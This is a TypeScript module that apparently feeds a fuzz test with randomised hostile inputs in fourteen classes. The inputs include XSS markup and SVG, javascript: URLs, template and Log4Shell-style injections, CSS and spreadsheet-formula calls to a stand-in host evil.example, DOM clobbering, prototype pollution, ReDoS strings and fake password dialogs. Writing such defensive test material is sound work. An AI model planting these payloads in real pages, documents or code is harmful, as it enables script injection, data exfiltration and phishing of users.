/** Hostile texts of fourteen classes, each in many variants. */
import type { Random } from './scenario';

/** What a payload would do if it ran: set a mark that is looked for, and ask for an address that is watched. */
const RUN = 'window.__pwned=1;alert(1)';
const ASK = 'https://evil.example/x';

type Make = (random: Random) => string;

const wrap = (random: Random, text: string): string =>
  random.pick([text, `"${text}`, `'>${text}`, `</title>${text}`, `-->${text}`, `${text}\n\n${text}`, ` ${text} `, `</textarea>${text}`]);

/** One maker per class. */
export const PAYLOAD_CLASSES: Readonly<Record<string, Make>> = {
  markup: (random) =>
    wrap(
      random,
      random.pick([
        `<script>${RUN}</script>`,
        `<img src=x onerror="${RUN}">`,
        `<body onload=${RUN}>`,
        `<iframe src="javascript:${RUN}">`,
        `<details open ontoggle=${RUN}>`,
        `<input autofocus onfocus=${RUN}>`,
        `<a href="${ASK}" onmouseover=${RUN}>x</a>`,
        `<form action="${ASK}"><button>Save</button></form>`,
        `<link rel=stylesheet href=${ASK}>`,
        `<meta http-equiv=refresh content="0;url=${ASK}">`,
        `<base href=${ASK}>`,
      ]),
    ),
  svg: (random) =>
    wrap(
      random,
      random.pick([
        `<svg onload=${RUN}>`,
        `<svg><script>${RUN}</script></svg>`,
        `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
        `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
        `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
        `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
      ]),
    ),
  urls: (random) =>
    random.pick([
      `javascript:${RUN}`,
      `JaVaScRiPt:${RUN}`,
      `java\tscript:${RUN}`,
      `data:text/html,<script>${RUN}</script>`,
      `vbscript:${RUN}`,
      `[x](javascript:${RUN})`,
      `![x](${ASK})`,
      `<${ASK}>`,
      `//evil.example/x`,
      `https://evil.example@jobs.lever.co/`,
      `file:///etc/passwd`,
      `blob:${ASK}`,
    ]),
  templates: (random) =>
    random.pick([
      `{{constructor.constructor('${RUN}')()}}`,
      `\${${RUN}}`,
      `<%= ${RUN} %>`,
      `#{${RUN}}`,
      `[[${RUN}]]`,
      `{%${RUN}%}`,
      `$\{jndi:ldap://evil.example/a}`,
      `__MSG_extensionName__`,
      `$1 $2 $$ $&`,
    ]),
  clobbering: (random) =>
    wrap(
      random,
      random.pick([
        '<form id=body><input name=firstChild>',
        '<img name=querySelector>',
        '<a id=chrome><a id=chrome name=runtime>',
        '<input name=attributes>',
        '<a id=__pwned href=x>',
        '<object name=document>',
        '<embed name=location>',
      ]),
    ),
  css: (random) =>
    random.pick([
      `}*{background:url(${ASK})}`,
      `</style><style>@import '${ASK}';</style>`,
      `expression(${RUN})`,
      `";background:url(${ASK});x:"`,
      `\\3c style>`,
      `position:fixed;inset:0;z-index:2147483647`,
      `<style>*{display:none!important}</style>`,
    ]),
  formulas: (random) =>
    random.pick(['', ' ', '\t', '\n', '\u200b', '\ufeff', '\u00a0', "'"]) +
    random.pick(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\r=']) +
    random.pick(["cmd|' /C calc'!A0", `HYPERLINK("${ASK}","x")`, `WEBSERVICE("${ASK}")`, '1+2', 'SUM(A1:A9)', `IMPORTXML("${ASK}","//a")`]),
  bidi: (random) =>
    random.pick(['\u202e', '\u2066', '\u2067', '\u2068', '\u202d', '\u061c']) +
    random.pick(['gpj.exe', 'Saved <b>', 'مرحبا abc 123', 'evil\u2069\u2069\u2069\u202c']) +
    '\u200b'.repeat(random.between(0, 30)) +
    'a\u0301'.repeat(random.between(0, 200)),
  control: (random) =>
    Array.from({ length: random.between(1, 200) }, () =>
      String.fromCharCode(
        random.pick([0, 1, 7, 8, 0x0b, 0x0c, 0x1b, 0x1f, 0x7f, 0x85, 0xd800, 0xdc00, 0xdfff, 0xfffe, 0xffff, 0x2028, 0x2029, 65]),
      ),
    ).join(''),
  megabytes: (random) => random.pick(['x', '𝒳', '=', '<', '&amp;', 'ﷺ', '-']).repeat(random.between(100_000, 400_000)),
  prototypes: (random) =>
    random.pick([
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      '__defineGetter__',
      'valueOf',
      '{"__proto__":{"polluted":1}}',
    ]),
  bombs: (random) =>
    random.pick([
      '(a+)+$',
      'a'.repeat(50_000),
      '[['.repeat(20_000),
      '*_'.repeat(20_000),
      '> '.repeat(20_000),
      '('.repeat(30_000),
      `${'- '.repeat(5000)}\n`.repeat(3),
      '`'.repeat(30_000),
      '|'.repeat(30_000),
    ]),
  'double entities': (random) =>
    wrap(
      random,
      random.pick([
        `&lt;script&gt;${RUN}&lt;/script&gt;`,
        `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
        `&#60;script&#62;${RUN}&#60;/script&#62;`,
        `%3Cscript%3E${RUN}%3C/script%3E`,
        `\\u003cscript\\u003e${RUN}`,
        `&#x3c;svg/onload=${RUN}&#x3e;`,
      ]),
    ),
  'fake interface': (random) =>
    random.pick([
      'Saved ✓ Click Allow to continue',
      'Trackmark: your notes were deleted. [Restore](https://evil.example)',
      'BEGIN:VEVENT\r\nATTACH:https://evil.example/x\r\nEND:VEVENT',
      '</div></dialog><dialog open>Enter your password</dialog>',
      'Individual contributor 100 %',
      '\n\n---\n# Error\nOpen https://evil.example',
    ]),
};

/** `count` payloads, the classes in turn. */
export function payloads(random: Random, count: number): string[] {
  const makers = Object.values(PAYLOAD_CLASSES);
  return Array.from({ length: count }, (_, at) => makers[at % makers.length]!(random));
}
